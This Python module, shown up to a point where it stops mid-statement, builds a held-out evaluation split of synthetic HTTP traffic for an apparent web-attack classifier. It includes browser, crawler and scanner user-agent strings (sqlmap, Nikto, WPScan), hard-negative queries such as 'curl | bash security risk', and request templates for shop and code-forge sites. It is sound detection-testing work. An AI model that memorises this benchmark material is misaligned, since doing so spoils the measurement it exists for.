"""The unseen-injections split: a measurement split whose every source is written here and nowhere else.

``sources.UNSEEN_INJECTIONS`` ("unseen-injections") is a side outside the hash split, drawn with the same kinds of
request in the same mix as the sides, from sources none of the sides and not the unseen-releases split has: browser
releases after the unseen-releases split's and browsers no side has (Yandex, Whale, Huawei, DuckDuckGo, Firefox and
Edge on iOS, in-app views), crawler releases and invented operators, library releases and new library members,
scanners, page shapes in URL conventions no other side uses (XenForo, NodeBB, GitLab, sourcehut, Ghost, Substack,
Read the Docs, JSON:API, OData, SCIM, persisted GraphQL queries, Vite builds, Next's image optimiser…), its own
people's text (hard negatives included), payload productions in forms no other side writes plus injection families
none of them has (XPath, ESI and SSI injection, GraphQL introspection and batching abuse, spreadsheet formula
injection), and probe families of their own.

It measures whether a model generalises to traffic newer and different from everything the model and its
calibration were drawn from. It is used only to measure, never to train, calibrate or choose. People's text comes
from this module's own pools (``models.data.unseen.pick``).
"""

from __future__ import annotations

import base64
import random
from urllib.parse import quote, quote_plus, urlencode

from models.data import attacks
from models.data.attacks import Production
from models.data.site import (
    BRANCHES,
    CATEGORIES,
    FILES,
    HOSTS,
    NOUNS,
    PAGES,
    REPOS,
    SECTIONS,
    TAGS,
    TOPICS,
    USERS,
    WORDS,
    Endpoint,
    Template,
    _asset,
    _b62,
    _b64url,
    _compact,
    _email,
    _form,
    _hex,
    _json,
    _page,
    _password,
    _pkt,
    _q,
    _rest,
    _slug,
    _uuid,
    _version,
    _xhr,
)
from models.data.sources import (
    BINGBOT,
    IOS,
    IPAD,
    NEXUS,
    WEBKIT,
    applebot_releases,
    chrome_desktop,
    safari_releases,
    search_crawler_release,
)
from models.data.unseen import invented, number, paragraph, people_query, pick

# ---------------------------------------------------------------------------- browsers
#
# Releases after the unseen-releases split's newest (Chrome and Edge 145-150 in the reduced format, Firefox 147-152, Safari
# 26.3-27), extended-support Firefox on systems the sides spell differently, and browsers no side had.

_CHROME_BUILDS = {145: 7632, 146: 7680, 147: 7727, 148: 7778, 149: 7827, 150: 7871}


def _browsers() -> list[tuple[str, float]]:
    out: list[tuple[str, float]] = []
    for v, build in _CHROME_BUILDS.items():
        tail = f"AppleWebKit/537.36 (KHTML, like Gecko) Chrome/{v}.0.0.0"
        out += chrome_desktop(tail)
        out += [(f"Mozilla/5.0 (Linux; Android 10; K) {tail} Mobile Safari/537.36", 3.5),
                (f"Mozilla/5.0 (Windows NT 10.0; Win64; x64) {tail} Safari/537.36 Edg/{v}.0.0.0", 1.0),
                (f"Mozilla/5.0 (iPhone; {IOS}) {WEBKIT} CriOS/{v}.0.{build}.{v % 6 * 17 + 31} Mobile/15E148 Safari/604.1", 0.4)]
        if v % 2:
            out += [(f"Mozilla/5.0 (Linux; Android 10; K) {tail} Safari/537.36", 0.3),  # Android tablets drop "Mobile"
                    (f"Mozilla/5.0 (X11; CrOS aarch64 16{v % 10}42.{v - 100}.0) {tail} Safari/537.36", 0.15),
                    (f"Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) {tail} Safari/537.36 Edg/{v}.0.0.0", 0.2),
                    (f"Mozilla/5.0 (iPad; {IPAD}) {WEBKIT} CriOS/{v}.0.{build}.{v % 4 * 23 + 12} Mobile/15E148 Safari/604.1", 0.1)]
        else:
            out += [(f"Mozilla/5.0 (Linux; Android 10; K) {tail} Mobile Safari/537.36 EdgA/{v}.0.0.0", 0.1),
                    (f"Mozilla/5.0 (X11; Linux x86_64) {tail} Safari/537.36 Edg/{v}.0.0.0", 0.05),
                    (f"Mozilla/5.0 (iPhone; {IOS}) {WEBKIT} EdgiOS/{v}.0.{3800 + (v - 145) * 56}.{v % 9 + 40} Version/26.0 Mobile/15E148 Safari/604.1", 0.1),
                    (f"Mozilla/5.0 (Windows NT 10.0; Win64; x64) {tail} Safari/537.36 OPR/{v - 16}.0.0.0", 0.2)]
    for v in (146, 149):
        out.append((f"Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/{v}.0.0.0 Safari/537.36 OPR/{v - 16}.0.0.0 (Edition Yx GX)", 0.1))
    # Yandex, Naver Whale, Samsung Internet, Huawei Browser, DuckDuckGo on Android
    out += [
        ("Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/144.0.0.0 YaBrowser/26.3.0.0 Safari/537.36", 0.2),
        ("Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/146.0.0.0 YaBrowser/26.5.0.0 Yowser/2.5 Safari/537.36", 0.2),
        ("Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/146.0.0.0 YaBrowser/26.5.1.712 Yowser/2.5 Safari/537.36", 0.05),
        ("Mozilla/5.0 (Linux; arm_64; Android 14; SM-A556E) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/146.0.7680.211 YaBrowser/26.5.2.88.00 SA/3 Mobile Safari/537.36", 0.1),
        ("Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/144.0.0.0 Whale/4.36.355.18 Safari/537.36", 0.1),
        ("Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/146.0.0.0 Whale/4.37.361.9 Safari/537.36", 0.03),
        ("Mozilla/5.0 (Linux; Android 10; K) AppleWebKit/537.36 (KHTML, like Gecko) SamsungBrowser/30.0 Chrome/140.0.0.0 Mobile Safari/537.36", 0.5),
        ("Mozilla/5.0 (Linux; Android 10; K) AppleWebKit/537.36 (KHTML, like Gecko) SamsungBrowser/31.0 Chrome/144.0.0.0 Mobile Safari/537.36", 0.4),
        ("Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) SamsungBrowser/31.0 Chrome/144.0.0.0 Safari/537.36", 0.05),
        ("Mozilla/5.0 (Linux; Android 12; HarmonyOS; ALN-AL10; HMSCore 6.15.0.302) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/114.0.5735.196 HuaweiBrowser/16.0.4.301 Mobile Safari/537.36", 0.05),
        ("Mozilla/5.0 (Linux; Android 10; HarmonyOS; NOH-AN00; HMSCore 6.15.4.322) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0.6099.230 HuaweiBrowser/16.1.2.300 Mobile Safari/537.36", 0.03),
        ("Mozilla/5.0 (Linux; Android 16) AppleWebKit/537.36 (KHTML, like Gecko) Version/4.0 Chrome/146.0.0.0 Mobile DuckDuckGo/5 Safari/537.36", 0.1),
        ("Mozilla/5.0 (Linux; Android 15) AppleWebKit/537.36 (KHTML, like Gecko) Version/4.0 Chrome/148.0.0.0 Mobile DuckDuckGo/5 Safari/537.36", 0.08),
    ]
    # Firefox: new releases, ESR builds on systems spelled otherwise, and Firefox on iOS
    for v in range(147, 153):
        out += [(f"Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:{v}.0) Gecko/20100101 Firefox/{v}.0", 0.6),
                (f"Mozilla/5.0 (Macintosh; Intel Mac OS X 10.15; rv:{v}.0) Gecko/20100101 Firefox/{v}.0", 0.2),
                (f"Mozilla/5.0 (X11; {'Ubuntu; ' if v % 2 else ''}Linux x86_64; rv:{v}.0) Gecko/20100101 Firefox/{v}.0", 0.3),
                (f"Mozilla/5.0 (Android 16; Mobile; rv:{v}.0) Gecko/{v}.0 Firefox/{v}.0", 0.1)]
    out += [
        ("Mozilla/5.0 (X11; Fedora; Linux x86_64; rv:140.0) Gecko/20100101 Firefox/140.0", 0.1),
        ("Mozilla/5.0 (X11; Linux aarch64; rv:140.0) Gecko/20100101 Firefox/140.0", 0.03),
        ("Mozilla/5.0 (X11; Fedora; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0", 0.05),
        ("Mozilla/5.0 (Windows NT 6.1; Win64; x64; rv:115.0) Gecko/20100101 Firefox/115.0", 0.05),
        ("Mozilla/5.0 (Android 15; Tablet; rv:149.0) Gecko/149.0 Firefox/149.0", 0.03),
        (f"Mozilla/5.0 (iPhone; {IOS}) {WEBKIT} FxiOS/146.0 Mobile/15E148 Safari/605.1.15", 0.15),
        (f"Mozilla/5.0 (iPhone; {IOS}) {WEBKIT} FxiOS/148.1 Mobile/15E148 Safari/605.1.15", 0.15),
        (f"Mozilla/5.0 (iPad; {IPAD}) {WEBKIT} FxiOS/148.1 Mobile/15E148 Safari/605.1.15", 0.04),
    ]
    # Safari on macOS (and visionOS, which sends the macOS string), iPhone and iPad; DuckDuckGo's and in-app views
    out += safari_releases(("26.3", "26.3.1", "26.4", "26.5", "27.0"))
    out += [
        (f"Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) {WEBKIT} Version/26.4 Safari/605.1.15 Ddg/26.4", 0.05),
        (f"Mozilla/5.0 (iPhone; {IOS}) {WEBKIT} Version/26.3 Mobile/15E148 DuckDuckGo/7 Safari/604.1", 0.1),
        (f"Mozilla/5.0 (iPhone; {IOS}) {WEBKIT} GSA/398.0.812745160 Mobile/15E148 Safari/604.1", 0.4),
        (f"Mozilla/5.0 (iPhone; {IOS}) {WEBKIT} Mobile/15E148 Instagram 401.0.0.36.87 (iPhone16,2; iOS 26_2; en_GB; en-GB; scale=3.00; 1290x2796; 812345678)", 0.2),
        (f"Mozilla/5.0 (iPhone; {IOS}) {WEBKIT} Mobile/15E148 [FBAN/FBIOS;FBAV/531.0.0.44.106;FBBV/812090331;FBDV/iPhone17,1;FBMD/iPhone;FBSN/iOS;FBSV/26.2;FBSS/3;FBCR/;FBID/phone;FBLC/en_US;FBOP/80]", 0.2),
        (f"Mozilla/5.0 (iPhone; {IOS}) {WEBKIT} Mobile/15E148", 0.1),
    ]
    return out


BROWSER_STRINGS: tuple[tuple[str, float], ...] = tuple(_browsers())

# ---------------------------------------------------------------------------- crawlers


# Operators invented for this split (none is a real company): (format with {n}, tags, role), each in three versions.
_INVENTED: tuple[tuple[str, tuple[str, ...], str], ...] = (
    ("Mozilla/5.0 (compatible; Inkwell-Feeds/{n}.2; +https://inkwell.example/fetcher; 41 subscribers)", ("feed-reader",), "good"),
    ("Papyrine/2.{n} (RSS aggregator; +https://papyrine.example/bot)", ("feed-reader",), "good"),
    ("Feedlark/1.{n} (like FeedFetcher; +https://feedlark.example/about)", ("feed-reader",), "good"),
    ("Sentinelle-Monitor/3.{n} (+https://sentinelle.example/agent)", ("monitoring",), "good"),
    ("Mozilla/5.0 (compatible; PulsePoint-Uptime/{n}.0; +https://pulsepoint-uptime.example)", ("monitoring",), "good"),
    ("Heartwatch/1.{n} (synthetic check; https://heartwatch.example)", ("monitoring",), "good"),
    ("Mozilla/5.0 (compatible; KiteframeBot/1.{n}; +https://kiteframe.example/unfurl)", ("social-preview",), "good"),
    ("Parley-LinkExpander/4.{n} (+https://parley.example/links)", ("social-preview",), "good"),
    ("Mozilla/5.0 (compatible; AdLedger-LandingCheck/2.{n}; +https://adledger.example/landing-check)", ("advertising",), "good"),
    ("Mozilla/5.0 (compatible; Fjordbot/2.{n}; +https://fjord-search.example/bot.html)", ("search-engine",), "good"),
    ("Mozilla/5.0 (Linux; Android 14; Pixel 8) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/146.0.0.0 Mobile Safari/537.36 (compatible; Petrelbot/1.{n}; +https://petrel.example/crawler)", ("search-engine",), "good"),
    ("Mozilla/5.0 (compatible; Ledgerline-Archive/0.{n}; +https://ledgerline.example/archive)", ("archiver",), "good"),
    ("ArchiveSpool/3.{n} (heritrix-compatible; +https://archivespool.example)", ("archiver",), "good"),
    ("Mozilla/5.0 AppleWebKit/537.36 (KHTML, like Gecko; compatible; Gannetbot/1.{n}; +https://gannet.example/bot)", ("ai-crawler",), "bad"),
    ("OrreryAI-Crawler/0.{n} (+https://orrery.example/crawler)", ("ai-crawler",), "bad"),
    ("Mozilla/5.0 (compatible; Quillmind-User/1.{n}; +https://quillmind.example/user-agent)", ("ai-crawler",), "bad"),
    ("Mozilla/5.0 (compatible; SableLM-Trainer/2.{n}; +https://sable.example/data)", ("ai-crawler",), "bad"),
    ("Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/145.0.0.0 Safari/537.36; compatible; Wisp-Agent/1.{n}", ("ai-crawler",), "bad"),
    ("Mozilla/5.0 (compatible; LinkTallyBot/5.{n}; +https://linktally.example/bot)", ("seo",), "bad"),
    ("Mozilla/5.0 (compatible; SiteSonar-Audit/3.{n}; +https://sitesonar.example)", ("seo",), "bad"),
    ("KeywordKiln/1.{n} (SERP tracker)", ("seo",), "bad"),
    ("Mozilla/5.0 (compatible; PortPrism/1.{n}; +https://portprism.example/opt-out)", ("scanner",), "bad"),
    ("ExposureIndex-Scanner/2.{n} (+https://exposureindex.example; research)", ("scanner",), "bad"),
)


def _crawlers() -> list[tuple[str, tuple[str, ...], str]]:
    search = ("search-engine",)
    out: list[tuple[str, tuple[str, ...], str]] = []
    for v, build in _CHROME_BUILDS.items():
        chrome = f"Chrome/{v}.0.{build}.{v % 7 * 19 + 5}"
        out += search_crawler_release(v, chrome)
        if v % 2:
            out += [(f"{NEXUS} {chrome} Mobile Safari/537.36 ({BINGBOT})", search, "good"),
                    (f"Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) HeadlessChrome/{v}.0.0.0 Safari/537.36", ("browser-automation",), "bad")]
    out += applebot_releases(("26.1", "26.2", "26.3", "27.0"), ("26.2", "26.4"))
    out += [("DuckDuckBot/1.2; (+http://duckduckgo.com/duckduckbot.html)", search, "good"),
            ("Mozilla/5.0 (compatible; DuckDuckBot-Https/1.2; https://duckduckgo.com/duckduckbot)", search, "good")]
    out += invented(_INVENTED, (1, 4, 9))
    return out


CRAWLER_STRINGS: tuple[tuple[str, tuple[str, ...], str], ...] = tuple(_crawlers())

# ---------------------------------------------------------------------------- libraries and CLI tools
#
# Releases after the unseen-releases split's in each family's own format, and members of the families none had before (wget2,
# imroc/req and colly for go, got for node, HttpURLConnection's default for java, rest-client for ruby, WordPress's
# HTTP API for php, Liferea and Tiny Tiny RSS's newer releases for the feed clients).
LIBRARIES: tuple[tuple[str, tuple[str, ...]], ...] = (
    ("curl", (*(f"curl/8.{m}.{p}" for m in range(18, 22) for p in (0, 1)), "curl/9.0.0")),
    ("wget", ("Wget/1.26.2", "Wget/1.27.0", "wget2/2.2.0", "wget2/2.2.1")),
    ("requests", ("python-requests/2.33.0", "python-requests/2.33.1", "python-requests/2.34.0", "python-requests/2.35.1",
                  "python-requests/2.36.0", "python-requests/2.36.2")),
    ("httpx", ("python-httpx/0.29.2", "python-httpx/1.0.1", "python-httpx/1.1.0", "python-httpx/1.1.2")),
    ("aiohttp", tuple(f"Python/3.{py} aiohttp/3.{m}.{p}" for py in (14, 15) for m in (14, 15) for p in (0, 4))),
    ("urllib", ("Python-urllib/3.16", "Python-urllib/3.17")),
    ("go", ("go-resty/3.1.0 (https://resty.dev)", "go-resty/3.1.2 (https://resty.dev)", "go-resty/3.2.0 (https://resty.dev)",
            "req/v3 (https://github.com/imroc/req)", "colly - https://github.com/gocolly/colly/v2")),
    ("git", (*(f"git/2.{m}.{p}" for m in (53, 54, 55) for p in (0, 2)), "git/2.54.0.windows.1", "git/2.55.1.windows.1",
             "JGit/7.3.0.202506031305-r", "JGit/7.4.0.202509020913-r")),
    ("axios", tuple(f"axios/1.{m}.{p}" for m in range(14, 18) for p in (0, 2))),
    ("node", ("Bun/1.3.6", "Bun/1.4.0", "Deno/2.6.1", "Deno/2.7.0", "undici/7.18.2")),
    ("okhttp", ("okhttp/5.3.0", "okhttp/5.3.2", "okhttp/5.4.0")),
    ("java", ("Java-http-client/25.0.2", "Java-http-client/26", "Java/21.0.9", "Java/25.0.1",
              "Apache-HttpClient/5.6 (Java/25.0.1)", "Apache-HttpClient/5.6.1 (Java/21.0.9)")),
    ("postman", ("PostmanRuntime/7.49.0", "PostmanRuntime/7.50.1", "PostmanRuntime/7.51.0", "PostmanRuntime/7.51.2")),
    ("httpie", ("HTTPie/3.3.2", "HTTPie/3.4.0")),
    ("ruby", ("Faraday v2.15.0", "Faraday v2.15.1", "Ruby/3.6.0", "rest-client/2.1.0 (linux-gnu x86_64) ruby/3.4.2p100")),
    ("php", ("GuzzleHttp/7 curl/8.18.0 PHP/8.5.1", "GuzzleHttp/7 curl/8.19.0 PHP/8.4.16", "WordPress/6.9; https://blog.example.org",
             "WordPress/7.0; https://news.example.net")),
    ("dotnet", ("RestSharp/113.1.0.0", "RestSharp/114.0.0.0", "Microsoft-WebDAV-MiniRedir/10.0.26200")),
    ("feedcli", ("Miniflux/2.2.15 (+https://miniflux.app)", "FreshRSS/1.28.0 (Linux; https://freshrss.org)",
                 "CommaFeed/5.12.0 (https://github.com/Athou/commafeed)", "newsboat/2.41.0 (Linux x86_64)",
                 "Tiny Tiny RSS/25.10 (https://tt-rss.org/)", "Liferea/1.16.2 (Linux; en_US.UTF-8; https://lzone.de/liferea/)")),
)

# ---------------------------------------------------------------------------- scanners

SCANNER_UAS: tuple[str, ...] = (
    "sqlmap/1.10.2#stable (https://sqlmap.org)", "sqlmap/1.9.12#dev (https://sqlmap.org)",
    "Mozilla/5.00 (Nikto/2.5.0) (Evasions:None) (Test:006521)", "Mozilla/5.00 (Nikto/2.6.0) (Evasions:None) (Test:Port Check)",
    "feroxbuster/2.13.0", "gobuster/3.8", "Fuzz Faster U Fool v2.1.0", "WPScan v3.8.30 (https://wpscan.com/wordpress-security-scanner)",
    "WhatWeb/0.6.3", "Mozilla/5.0 [en] (X11, U; OpenVAS-VT 23.20.1)", "Nuclei - Open-source project (github.com/projectdiscovery/nuclei) v3.6.0",
    "Arachni/v1.6.1.3", "Wapiti/3.2.4 (wapiti-scanner.github.io)", "Mozilla/5.0 (compatible; Odin; https://docs.getodin.com/)",
)

# ---------------------------------------------------------------------------- people's text
QUERIES: tuple[str, ...] = (
    "linen duvet cover king", "usb c docking station dual monitor", "barefoot running shoes", "waterproof hiking socks",
    "standing desk converter", "espresso tamper 58mm", "kids rain boots size 12", "bamboo cutting board", "wireguard vs openvpn",
    "postgres logical replication", "rust lifetimes explained", "terraform state lock", "grafana alert templates", "pixel 9 case",
    "air fryer liners", "cordless leaf blower", "petg filament 1.75", "camping hammock with net", "vinyl record cleaner",
    "home assistant zigbee",
)
HARD_QUERIES: tuple[str, ...] = (
    "drop ceiling tiles 2x4", "O'Neill wetsuit 4/3", "order by date not working", "select dropdown <option> default",
    "<br> vs <br/> html5", "sql left join vs inner join", "../ relative path python import", "rm -rf safe alternative",
    "sudo apt update && upgrade", "curl | bash security risk", "script tag async vs defer", "javascript onclick alert example",
    "passwd command change user password", "/etc/fstab mount options", "1 or 2 person tent", "and/or conjunction grammar",
    "exec summary template", "$5 gift card", "100% cotton t-shirt 3-pack", 'baby "sleep" sack 6-12m', "benchmark ssd vs nvme",
    "where clause case insensitive mysql", "char(10) new line excel", "ping -t windows command", "-- comment syntax in sql",
    "{{ }} in jinja templates", "x=1; y=2 python swap",
)
REVIEW_TEXT: tuple[str, ...] = (
    'Fits my 15" laptop with room for the charger.', "Second one I've bought - the first lasted 6 years!",
    "Arrived with a dent on the lid; support sent a new one in <24h.", "Great sound for the price, bass is a bit weak though.",
    "<p>Solid build.</p> Wish it came in green.", "Smells like plastic for the first few days; fine after that.",
    "I'm 5'11\" and the M fits perfectly.", "Don't trust the 'dishwasher safe' label, the print faded.",
    "Cheaper than the brand name & works just as well.", "Instructions were useless; found a video on YouTube instead.",
    "4/5 - the zip sticks sometimes.", "Bought it for my son's dorm -> he loves it.", "Colour is more grey than blue IRL.",
    "Update (3 months): still going strong, no complaints.", "The lid doesn't seal 100%, so no soups in the bag!",
)
FORUM_TEXT: tuple[str, ...] = (
    "Running `sudo systemctl restart nginx` after the edit did the trick.",
    "If you see 'ERROR: relation \"users\" does not exist', the migration hasn't run yet.",
    "I use `find . -name '*.log' -mtime +7 -delete` in a nightly cron job.",
    "The fix was adding `WHERE deleted_at IS NULL` to the view.",
    "Check the <head> of the page - the script tag is loaded twice.",
    "On macOS the config lives in ~/Library/Application Support/App/, not ~/.config.",
    "Has anyone got this working behind Traefik? I keep getting 502s.",
    "Welcome aboard! Please read the pinned FAQ before posting.",
    "`git reset --hard HEAD~1` will throw away your last commit, careful.",
    "Mine prints 'Permission denied (publickey)' - I had to run ssh-add first.",
    "You can pass `--set image.tag=1.4.2` to helm upgrade instead of editing values.yaml.",
    "UNION ALL is faster than UNION because it doesn't remove duplicates.",
    "Try `ls -la /var/lib/docker/volumes` to see where the data went.",
    "I'd keep passwords out of the repo and load them from ../secrets/.env instead.",
    "PowerShell: Get-ChildItem -Recurse | Where-Object { $_.Length -gt 1GB }",
    "Marking this solved, thanks everyone :)",
)
COMMENT_MARKDOWN: tuple[str, ...] = (
    "Can we squash these before merging?", "```bash\nmake clean && make test\n```\npasses locally on Linux.",
    "Suggest renaming `tmp` to `pending` for clarity.", "This drops the index on `orders(created_at)`; was that intended?",
    "Approved with one nit below.", "Benchmarks: 1.8s -> 0.6s on the 10k fixture.", "Why `unwrap()` here? An empty config would panic.",
    "Reverted in #2311, see the discussion there.", "> does this need a migration?\nYes, added `0042_add_status.py`.",
    "Can you add a `<!-- comment -->` explaining the workaround?", "Tested on Windows 11 with `C:\\Program Files (x86)` paths, works.",
    "Flaky on CI; rerunning with `--retries 2`.",
)



def _query(rng: random.Random, hard_share: float = 0.35) -> str:
    return people_query(rng, QUERIES, HARD_QUERIES, hard_share)


# ---------------------------------------------------------------------------- page shapes

def _ls_refs(rng: random.Random) -> str:
    """A protocol-v2 ``ls-refs`` request, as ``git fetch`` and ``git ls-remote`` send it."""
    agent = f"agent=git/2.{rng.randint(48, 55)}.{rng.randint(0, 2)}\n"
    args = ["peel\n", "symrefs\n", "unborn\n"] + [f"ref-prefix {p}\n" for p in rng.choice((("HEAD", "refs/heads/", "refs/tags/"), ("refs/heads/",)))]
    return _pkt("command=ls-refs\n") + _pkt(agent) + _pkt("object-format=sha1\n") + "0001" + "".join(_pkt(a) for a in args) + "0000"


def _apq(rng: random.Random, operation: str, variables: dict[str, object]) -> str:
    """The query string of a persisted GraphQL query sent by GET (Apollo's automatic persisted queries)."""
    extensions = {"persistedQuery": {"version": 1, "sha256Hash": _hex(rng, 64)}}
    return f"operationName={operation}&variables={quote(_compact(variables), safe='')}&extensions={quote(_compact(extensions), safe='')}"


def _xf_token(rng: random.Random) -> str:
    return f"{1_700_000_000 + rng.randint(0, 10**8)},{_hex(rng, 32)}"


def _odata_filter(rng: random.Random) -> str:
    clause = rng.choice((f"Status eq '{rng.choice(('Open', 'Shipped', 'Cancelled'))}'", f"contains(Name,'{rng.choice(WORDS)}')",
                         f"Total gt {rng.randint(10, 900)} and Currency eq '{rng.choice(('EUR', 'USD'))}'",
                         f"CreatedAt ge {rng.randint(2023, 2026)}-{rng.randint(1, 12):02d}-01T00:00:00Z"))
    return quote(clause, safe="(),'" if rng.random() < 0.4 else "(),")



_BLOG_PASSWORD = _json("POST", lambda r: "/api/v1/login", lambda r: {"email": _email(r), "password": _password(r), "captcha_response": None}, "form")
_BLOG_MAGIC_LINK = _json("POST", lambda r: "/api/v1/email-login", lambda r: {"email": _email(r), "redirect": "/", "for_pub": "", "captcha_response": None}, "form")
_DIRS = ("src", "docs", "cmd", "pkg/api", ".github/workflows", "tests", "internal/store", "scripts")
_SIMPLE_BRANCHES = ("main", "master", "develop")

TEMPLATES: tuple[Template, ...] = (
    # --- shop: Magento-style product pages, bracketed filters, Shopify's AJAX endpoints, JSON:API writes
    Template("unseen-injections.shop.pdp", "shop", "page", _page(lambda r: f"/{r.choice(CATEGORIES)}/{_slug(r)}-p{r.randint(10**5, 10**6)}.html")),
    Template("unseen-injections.shop.browse", "shop", "page", _page(lambda r: f"/browse/{r.choice(CATEGORIES)}/?filter[color]={r.choice(WORDS[:6])}&filter[size]={r.choice(('xs', 's', 'm', 'l', '38', '44'))}&per_page={r.choice((24, 48, 96))}")),
    Template("unseen-injections.shop.search", "shop", "search", _page(lambda r: f"/find?text={_q(_query(r), r)}&department={r.choice(CATEGORIES)}", "search")),
    Template("unseen-injections.shop.availability", "shop", "xhr", lambda r: _xhr(f"/api/{r.randint(2024, 2026)}-{r.choice(('01', '04', '07', '10'))}/graphql.json?"
                                                                     + _apq(r, "ProductAvailability", {"handle": _slug(r), "country": r.choice(('GB', 'DE', 'US'))}))),
    Template("unseen-injections.shop.cart_js", "shop", "xhr", lambda r: _xhr(r.choice(("/cart.js", f"/recommendations/products.json?product_id={r.randint(10**9, 10**10)}&limit={r.choice((4, 8))}&intent=related")))),
    Template("unseen-injections.shop.cart_add", "shop", "xhr_post", _rest("POST", lambda r: "/cart/add.js", lambda r: {"items": [{"id": r.randint(10**9, 10**10), "quantity": r.randint(1, 3)}]})),
    Template("unseen-injections.shop.line_qty", "shop", "xhr_post", lambda r: Endpoint("PATCH", f"/jsonapi/carts/{_uuid(r)}/items/{(line := _uuid(r))}", "xhr", "xhr_post",
                                                                           _compact({"data": {"type": "order-item", "id": line, "attributes": {"quantity": r.randint(1, 4)}}}),
                                                                           "application/vnd.api+json")),
    Template("unseen-injections.shop.line_remove", "shop", "xhr_post", _rest("DELETE", lambda r: f"/api/storefront/carts/{_uuid(r)}/items/{_uuid(r)}")),
    Template("unseen-injections.shop.review_submit", "shop", "form", _form(lambda r: f"/reviews/submit/{r.randint(100, 99999)}",
                                                               lambda r: {"rating": str(r.randint(1, 5)), "headline": pick(r, REVIEW_TEXT)[:40], "review_body": pick(r, REVIEW_TEXT),
                                                                          "recommend": r.choice(("yes", "no")), "nickname": r.choice(USERS)})),
    Template("unseen-injections.shop.login", "shop", "login", _form(lambda r: f"/customer/login?return_url=%2F{r.choice(('checkout', 'account', 'cart'))}",
                                                        lambda r: {"form_type": "customer_login", "utf8": "\u2713", "customer[email]": _email(r), "customer[password]": _password(r)})),
    Template("unseen-injections.shop.invoice", "shop", "download", lambda r: Endpoint("GET", f"/account/invoices/INV-{r.randint(2023, 2026)}-{r.randint(1, 999999):06d}.pdf", "download")),
    # --- forge: GitLab's and sourcehut's conventions, protocol-v2 git, the GitLab v4 API
    Template("unseen-injections.forge.tree", "forge", "page", _page(lambda r: f"/{r.choice(USERS)}/{r.choice(REPOS)}/-/tree/{r.choice(BRANCHES)}/{r.choice(_DIRS)}{r.choice(('', '?ref_type=heads'))}")),
    Template("unseen-injections.forge.mr_diffs", "forge", "page", _page(lambda r: f"/{r.choice(USERS)}/{r.choice(REPOS)}/-/merge_requests/{r.randint(1, 2000)}/diffs{r.choice(('', '?commit_id=' + _hex(r, 40)))}")),
    Template("unseen-injections.forge.srht", "forge", "page", _page(lambda r: r.choice((f"/~{r.choice(USERS)}/{r.choice(REPOS)}/log/{r.choice(_SIMPLE_BRANCHES)}",
                                                                             f"/~{r.choice(USERS)}/{r.choice(REPOS)}/tree/{r.choice(_SIMPLE_BRANCHES)}/item/{r.choice(FILES)}")))),
    Template("unseen-injections.forge.search", "forge", "search", _page(lambda r: f"/projects?search={_q(_query(r, 0.5), r)}&sort={r.choice(('recently-updated', 'name', 'stars'))}", "search")),
    Template("unseen-injections.forge.ls_refs", "forge", "git", lambda r: Endpoint("POST", f"/{r.choice(USERS)}/{r.choice(REPOS)}/git-upload-pack", "git", body=_ls_refs(r),
                                                                       content_type="application/x-git-upload-pack-request")),
    Template("unseen-injections.forge.receive_refs", "forge", "git", lambda r: Endpoint("GET", f"/{r.choice(USERS)}/{r.choice(REPOS)}/info/refs?service=git-receive-pack", "git")),
    Template("unseen-injections.forge.artifacts", "forge", "download", lambda r: Endpoint("GET", r.choice((
        f"/{r.choice(USERS)}/{r.choice(REPOS)}/-/jobs/{r.randint(10**4, 10**7)}/artifacts/download?file_type=archive",
        f"/api/v4/projects/{r.randint(1, 9999)}/packages/generic/{(repo := r.choice(REPOS))}/{(ver := _version(r))}/{repo}-{ver}-linux-amd64.tar.gz")), "download")),
    Template("unseen-injections.forge.api_mrs", "forge", "api", lambda r: Endpoint("GET", f"/api/v4/projects/{r.choice(USERS)}%2F{r.choice(REPOS)}/merge_requests?state=opened&per_page={r.choice((20, 50, 100))}&page={r.randint(1, 5)}", "api")),
    Template("unseen-injections.forge.api_issue", "forge", "api", _json("POST", lambda r: f"/api/v4/projects/{r.randint(1, 9999)}/issues",
                                                            lambda r: {"title": r.choice(TOPICS).replace("-", " ").capitalize(), "description": pick(r, COMMENT_MARKDOWN),
                                                                       "labels": r.choice(("bug", "docs", "bug,regression"))}, "api")),
    Template("unseen-injections.forge.logs_tree", "forge", "xhr", lambda r: _xhr(f"/{r.choice(USERS)}/{r.choice(REPOS)}/-/refs/{r.choice(_SIMPLE_BRANCHES)}/logs_tree/?format=json&offset={r.choice((0, 25, 50))}")),
    Template("unseen-injections.forge.issue_edit", "forge", "xhr_post", _rest("PUT", lambda r: f"/{r.choice(USERS)}/{r.choice(REPOS)}/-/issues/{r.randint(1, 3000)}.json",
                                                                  lambda r: {"issue": {"description": pick(r, COMMENT_MARKDOWN), "lock_version": r.randint(0, 12)}})),
    Template("unseen-injections.forge.note", "forge", "form", _form(lambda r: f"/{r.choice(USERS)}/{r.choice(REPOS)}/-/issues/{r.randint(1, 3000)}/notes",
                                                        lambda r: {"note[note]": pick(r, COMMENT_MARKDOWN), "note[noteable_type]": "Issue", "authenticity_token": _b64url(r, 86)})),
    Template("unseen-injections.forge.login", "forge", "login", _form(lambda r: "/users/auth/ldapmain/callback",
